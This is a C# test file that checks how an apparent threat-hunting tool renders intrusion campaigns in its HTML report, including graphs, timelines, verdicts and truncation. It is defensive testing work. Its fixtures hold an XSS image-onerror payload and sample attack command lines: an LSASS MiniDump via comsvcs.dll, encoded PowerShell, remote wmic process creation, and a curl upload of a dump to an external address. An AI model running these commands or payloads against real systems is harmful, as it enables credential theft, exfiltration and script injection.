using System.Text.Json;
using Vigil.Campaigns;
using Vigil.Diagnostics;
using Vigil.Engine.Hunting;
using Vigil.Engine.Pipeline;
using Vigil.Events;
using Vigil.Outputs;
using Vigil.Outputs.Report;
using Vigil.Readers;
using Vigil.Rules;
using Vigil.Tests.Cli;

namespace Vigil.Tests.Report;

/// <summary>
/// The campaign part of the report, rendered from campaigns given to the sink directly (the builder's own output is
/// covered by the simulated-hunt test once campaigns are built): ranking, the host/account graph with lateral-movement
/// arrows, the tactic-coloured timeline, the operator verdict with its evidence and reasons, theft, and attacker text
/// in every campaign string staying text.
/// </summary>
[Collection("chromium")]
public class CampaignRenderingTests(ChromiumFixture chromium)
{
    private const string Pwn = "<img src=x onerror=\"window.__pwned=1\">";
    private static readonly DateTime T0 = new(2026, 3, 10, 9, 0, 0, DateTimeKind.Utc);

    private static SigmaRule Rule(string id, string title, string level, params string[] tags) =>
        new() { Id = id, Title = title, Level = level, Status = "test", Tags = tags };

    private static Detection Detection(SigmaRule rule, int n, string host, string commandLine) => new()
    {
        Rule = rule,
        TimestampTicks = T0.AddMinutes(n).Ticks,
        Computer = host,
        Channel = "Microsoft-Windows-Sysmon/Operational",
        EventId = 1,
        RecordId = n,
        Origin = new EventOrigin("sysmon.jsonl", 0, n),
        Fields =
        [
            new EventField("EventID", FieldValue.FromInt64(1)),
            new EventField("Computer", FieldValue.FromString(host)),
            new EventField("CommandLine", FieldValue.FromString(commandLine)),
        ],
    };

    private static CampaignStep Step(Detection d, long id, string user, string tactic, string technique, int count = 1) =>
        new(d.Timestamp!.Value, d.Computer, user, tactic, technique, d.Rule.Id, d.Rule.Title, d.Rule.Level, id, count,
            "detail " + Pwn + " " + d.Fields[2].Value);

    [Fact]
    public async Task Campaigns_render_ranked_with_graph_timeline_and_verdict()
    {
        var exec = Rule("r-exec", "Encoded PowerShell", "high", "attack.execution", "attack.t1059.001");
        var cred = Rule("r-cred", "LSASS dump", "critical", "attack.credential-access", "attack.t1003.001");
        var lat = Rule("r-lat", "PsExec service", "high", "attack.lateral-movement", "attack.t1021.002");
        var exfil = Rule("r-exfil", "Upload with curl", "medium", "attack.exfiltration", "attack.t1048");
        var inv = Rule("r-inv", "WMIC patch query", "informational", "attack.discovery", "attack.t1047");
        var dets = new List<Detection>
        {
            Detection(exec, 1, "WS03", "powershell -enc AAAA"),
            Detection(cred, 2, "WS03", "rundll32 comsvcs.dll MiniDump " + Pwn),
            Detection(lat, 3, "FS01", "PSEXESVC.exe"),
            Detection(lat, 4, "FS01", "PSEXESVC.exe"),
            Detection(lat, 5, "SQL01", "wmiprvse.exe"),
            Detection(exfil, 6, "SQL01", "curl -T dump.7z https://203.0.113.9/u"),
            Detection(inv, 7, "MGMT01", "wmic /node:WS01 qfe get"),
            Detection(inv, 8, "MGMT01", "wmic /node:WS02 qfe get"),
        };
        string user = "CORP\\" + Pwn;
        var intrusion = new Campaign
        {
            Id = "C1", Score = 91.5, Kind = "intrusion",
            Hosts = ["WS03", "FS01", "SQL01"], Users = ["CORP\\jdoe", user],
            InternalAddresses = ["10.10.20.23", "10.10.10.20"], ExternalAddresses = ["203.0.113.9"],
            Tactics = ["execution", "credential-access", "lateral-movement", "exfiltration"],
            Techniques = ["T1003.001", "T1021.002", "T1048", "T1059.001"],
            FirstSeen = dets[0].Timestamp!.Value, LastSeen = dets[5].Timestamp!.Value,
            DetectionIds = [1, 2, 3, 4, 5, 6],
            Levels = new Dictionary<string, long> { ["critical"] = 1, ["high"] = 4, ["medium"] = 1 },
            Operator = new OperatorVerdict
            {
                Kind = "human", Confidence = 0.82,
                Evidence = new Dictionary<string, double> { ["commands_per_second_sustained"] = 0.05, ["interval_cv"] = 1.7, ["pause_count"] = 4 },
                Reasons = ["irregular pauses between commands", "typo corrected: " + Pwn],
            },
            Summary = "Started on WS03 as " + user + ", moved to FS01 and SQL01, uploaded a dump.",
            Steps =
            [
                Step(dets[0], 1, "CORP\\jdoe", "execution", "T1059.001"),
                Step(dets[1], 2, user, "credential-access", "T1003.001"),
                Step(dets[2], 3, user, "lateral-movement", "T1021.002", count: 2),
                Step(dets[4], 5, user, "lateral-movement", "T1021.002"),
                Step(dets[5], 6, user, "exfiltration", "T1048"),
            ],
            Links =
            [
                new HostLink("WS03", "FS01", user, "psexec", dets[2].Timestamp!.Value, "10.10.20.23", [3]),
                new HostLink("WS03", "FS01", user, "psexec", dets[3].Timestamp!.Value, "10.10.20.23", [4]),
                new HostLink("FS01", "SQL01", user, "wmi", dets[4].Timestamp!.Value, "10.10.10.20", [5]),
            ],
            Theft = [new DataTheft(dets[5].Timestamp!.Value, "SQL01", "upload", "curl -T dump.7z " + Pwn, 52_428_800, "203.0.113.9", [6])],
        };
        var automation = new Campaign
        {
            Id = "C2", Score = 12, Kind = "automation", Hosts = ["MGMT01"], Users = ["CORP\\svc_inventory"],
            InternalAddresses = [], ExternalAddresses = [], Tactics = ["discovery"], Techniques = ["T1047"],
            FirstSeen = dets[6].Timestamp!.Value, LastSeen = dets[7].Timestamp!.Value, DetectionIds = [7, 8],
            Levels = new Dictionary<string, long> { ["informational"] = 2 },
            Operator = new OperatorVerdict { Kind = "machine", Confidence = 0.97, Evidence = new Dictionary<string, double> { ["interval_cv"] = 0.02 }, Reasons = ["fixed 60 s interval"] },
            Summary = "Inventory sweep from MGMT01.",
            Steps = [Step(dets[6], 7, "CORP\\svc_inventory", "discovery", "T1047", count: 2)],
            Links = [], Theft = [],
        };

        var dir = CliRunner.TempDir("report-campaigns");
        string report = Path.Combine(dir, "report.html");
        using (var sink = new HtmlReportSink(report))
        {
            for (int i = 0; i < dets.Count; i++) sink.Add(i + 1, dets[i]);
            // Given lowest score first: the page must rank them.
            sink.Complete(new HuntSummary([], new ReadStats(), [new ReadError("sysmon.jsonl", "bad line " + Pwn, Line: 9)], 5, dets.Count,
                new Dictionary<string, long> { ["high"] = 4 }, [automation, intrusion], DateTime.UtcNow, TimeSpan.FromSeconds(1)));
        }

        await using var page = await chromium.Browser.NewPageAsync();
        await page.GotoAsync(new Uri(report).AbsoluteUri, TimeSpan.FromSeconds(60));
        await page.WaitForAsync("window.__vigil && window.__vigil.ready", TimeSpan.FromSeconds(60));
        Assert.Empty(page.Errors);
        Assert.All(page.Requests, u => Assert.Equal(new Uri(report).AbsoluteUri, u));

        async Task<JsonElement> Q(string js) => await page.EvalAsync(js);
        Assert.Equal(["C1", "C2"], (await Q("[...document.querySelectorAll('.campaign .cid')].map(e => e.textContent)")).EnumerateArray().Select(e => e.GetString()));
        const string c1 = "document.querySelectorAll('.campaign')[0]";
        // Graph: three hosts, two accounts, one arrow per (from, to, method) with the repeat count.
        Assert.Equal(3, (await Q($"{c1}.querySelectorAll('.campaign-graph g.graph-host').length")).GetInt32());
        Assert.Equal(2, (await Q($"{c1}.querySelectorAll('.campaign-graph g.graph-user').length")).GetInt32());
        Assert.Equal(2, (await Q($"{c1}.querySelectorAll('.campaign-graph path.lateral').length")).GetInt32());
        var labels = (await Q($"[...{c1}.querySelectorAll('.campaign-graph .lateral-label')].map(e => e.textContent)")).EnumerateArray().Select(e => e.GetString()).ToList();
        Assert.Equal(["psexec \u00d72", "wmi"], labels);
        var arrowTips = (await Q($"[...{c1}.querySelectorAll('.campaign-graph path.lateral > title')].map(e => e.textContent)")).EnumerateArray().Select(e => e.GetString()!).ToList();
        Assert.StartsWith("WS03 \u2192 FS01 by psexec as " + user, arrowTips[0]);
        Assert.Contains(user, (await Q($"[...{c1}.querySelectorAll('.campaign-graph g.graph-user title')].map(e => e.textContent)")).EnumerateArray().Select(e => e.GetString()));

        // Timeline: one dot per step, the same colour for the same tactic and different ones for different tactics.
        var fills = (await Q($"[...{c1}.querySelectorAll('.campaign-timeline circle')].map(e => e.getAttribute('fill'))")).EnumerateArray().Select(e => e.GetString()!).ToList();
        Assert.Equal(5, fills.Count);
        Assert.Equal(fills[2], fills[3]);
        Assert.Equal(4, fills.Distinct().Count());
        Assert.Equal(["execution", "credential-access", "lateral-movement", "exfiltration"],
            (await Q($"[...{c1}.querySelectorAll('.legend span')].map(e => e.textContent)")).EnumerateArray().Select(e => e.GetString()));

        // Verdict with its numbers and reasons.
        Assert.Equal("human", (await Q($"{c1}.querySelector('.verdict-kind').textContent")).GetString());
        Assert.Contains("82%", (await Q($"{c1}.querySelector('.verdict-line').textContent")).GetString());
        var evidence = (await Q($"[...{c1}.querySelectorAll('.evidence tr')].map(r => r.cells[0].textContent + '=' + r.cells[1].textContent)")).EnumerateArray().Select(e => e.GetString());
        Assert.Equal(["commands_per_second_sustained=0.05", "interval_cv=1.7", "pause_count=4"], evidence);
        Assert.Equal(intrusion.Operator.Reasons, (await Q($"[...{c1}.querySelectorAll('.reasons li')].map(e => e.textContent)")).EnumerateArray().Select(e => e.GetString()));

        // Facts, theft and summary as text.
        string text = (await Q($"{c1}.textContent")).GetString()!;
        foreach (var s in new[] { "203.0.113.9", "10.10.20.23", "T1003.001", "50.0 MB", intrusion.Summary, "curl -T dump.7z " + Pwn, "score 92" })
            Assert.Contains(s, text);
        Assert.Equal(5, (await Q($"{c1}.querySelectorAll('.steps:not(.movements) tr.step').length")).GetInt32());
        // Every movement is listed under the graph, each with its detection.
        Assert.Equal(3, (await Q($"{c1}.querySelectorAll('.movements tr.step').length")).GetInt32());

        // The second campaign: no movement, said so.
        Assert.Contains("no host-to-host movement", (await Q("document.querySelectorAll('.campaign')[1].textContent")).GetString());

        Directory.CreateDirectory(Path.Combine(AppContext.BaseDirectory, "report-screenshots"));
        await File.WriteAllBytesAsync(Path.Combine(AppContext.BaseDirectory, "report-screenshots", "campaigns.png"), await page.ScreenshotAsync(1600));

        // A step opens its detection; the campaign button filters the table to its detections.
        await Q($"{c1}.querySelectorAll('.steps:not(.movements) tr.step')[1].click()");
        Assert.StartsWith("Detection 2: LSASS dump", (await Q("document.querySelector('#detail h3').textContent")).GetString());
        Assert.Equal(6, (await Q("window.__vigil.shown")).GetInt32());
        await Q("document.querySelectorAll('.campaign')[1].querySelector('button').click()");
        Assert.Equal(2, (await Q("window.__vigil.shown")).GetInt32());

        // Errors are listed; nothing from the data ran or became markup.
        Assert.Contains("bad line " + Pwn, (await Q("document.getElementById('read-summary').textContent")).GetString());
        Assert.Equal("undefined", (await Q("typeof window.__pwned")).GetString());
        Assert.Equal(0, (await Q("document.querySelectorAll('img, [onerror]').length")).GetInt32());
        Assert.Empty(page.Errors);
    }

    /// <summary>A campaign past the page's list limit (an actor moving to thousands of hosts): the page embeds the first
    /// items of each list and says how many there are, the graph and the timeline draw the first hosts and count the
    /// rest; the figures are the campaign's own.</summary>
    [Fact]
    public async Task A_huge_campaign_is_cut_in_the_page_with_its_full_counts()
    {
        var lat = Rule("r-lat", "Remote WMI", "high", "attack.lateral-movement", "attack.t1047");
        var dets = Enumerable.Range(0, 150).Select(i => Detection(lat, i, $"EP{i:D4}", $"wmic /node:EP{i:D4} process call create x")).ToList();
        var hosts = new List<string> { "ADM01" };
        hosts.AddRange(Enumerable.Range(0, 150).Select(i => $"EP{i:D4}"));
        var campaign = new Campaign
        {
            Id = "C1", Score = 40, Kind = "intrusion", Hosts = hosts, Users = Enumerable.Range(0, 130).Select(i => $"CORP\\u{i}").ToList(),
            InternalAddresses = ["10.0.0.5"], ExternalAddresses = [], Tactics = ["lateral-movement"], Techniques = ["T1047"],
            FirstSeen = dets[0].Timestamp!.Value, LastSeen = dets[^1].Timestamp!.Value,
            DetectionIds = Enumerable.Range(1, 150).Select(i => (long)i).ToList(),
            Levels = new Dictionary<string, long> { ["high"] = 150 },
            Operator = new OperatorVerdict { Kind = "machine", Confidence = 0.9, Evidence = new Dictionary<string, double>(), Reasons = [] },
            Summary = "Moved from ADM01 to 150 hosts.",
            Steps = dets.Select((d, i) => Step(d, i + 1, "CORP\\u0", "lateral-movement", "T1047")).ToList(),
            Links = dets.Select((d, i) => new HostLink("ADM01", d.Computer, "CORP\\u0", "wmi", d.Timestamp!.Value, "", [i + 1L])).ToList(),
            Theft = [],
        };
        var dir = CliRunner.TempDir("report-huge-campaign");
        string report = Path.Combine(dir, "report.html");
        using (var sink = new HtmlReportSink(report) { CampaignListLimit = 100 })
        {
            for (int i = 0; i < dets.Count; i++) sink.Add(i + 1, dets[i]);
            sink.Complete(new HuntSummary([], new ReadStats(), [], 1, dets.Count, new Dictionary<string, long> { ["high"] = 150 }, [campaign],
                DateTime.UtcNow, TimeSpan.FromSeconds(1)));
        }
        var html = File.ReadAllText(report);
        Assert.Contains("\"totals\":{\"hosts\":151,\"users\":130,\"internal\":1,\"external\":0,\"detections\":150,\"steps\":150,\"links\":150}", html);
        var lists = html.Split("\"totals\":")[1].Split("\"steps\":[")[0]; // the campaign's hosts, accounts, addresses and ids
        Assert.Contains("\"EP0098\"]", lists); // the 100th host is the last
        Assert.DoesNotContain("EP0120", lists);

        await using var page = await chromium.Browser.NewPageAsync();
        await page.GotoAsync(new Uri(report).AbsoluteUri, TimeSpan.FromSeconds(60));
        await page.WaitForAsync("window.__vigil && window.__vigil.ready", TimeSpan.FromSeconds(60));
        Assert.Empty(page.Errors);
        async Task<JsonElement> Q(string js) => await page.EvalAsync(js);
        const string c1 = "document.querySelectorAll('.campaign')[0]";
        string text = (await Q($"{c1}.textContent")).GetString()!;
        Assert.Contains("150 detections", text);
        Assert.Contains("and 51 more (every one is in --campaigns)", text); // hosts: 151, 100 in the page
        Assert.Contains("and 30 more", text); // accounts: 130
        Assert.Contains("Steps (150 (the first 100 in this page", text);
        Assert.Contains("150 movements (the first 100 in this page", text);
        Assert.Equal(100, (await Q($"{c1}.querySelectorAll('.steps:not(.movements) tr.step').length")).GetInt32());
        Assert.Equal(100, (await Q($"{c1}.querySelectorAll('.movements tr.step').length")).GetInt32());
        // The graph draws 60 hosts (ADM01 and the first 59 targets) and an arrow to each target drawn.
        Assert.Equal(60, (await Q($"{c1}.querySelectorAll('.campaign-graph g.graph-host').length")).GetInt32());
        Assert.Equal(59, (await Q($"{c1}.querySelectorAll('.campaign-graph path.lateral').length")).GetInt32());
        Assert.Equal("+91 more hosts not drawn", (await Q($"{c1}.querySelector('.campaign-graph .more-hosts').textContent")).GetString());
        // The timeline: 60 lanes; of the 100 steps in the page, those on the 59 targets drawn are dots.
        Assert.Equal(59, (await Q($"{c1}.querySelectorAll('.campaign-timeline circle').length")).GetInt32());
        Assert.Equal("Lanes for 60 of 151 hosts; 41 steps on other hosts not drawn.", (await Q($"{c1}.querySelector('.more-lanes').textContent")).GetString());
        Assert.Empty(page.Errors);
    }
}
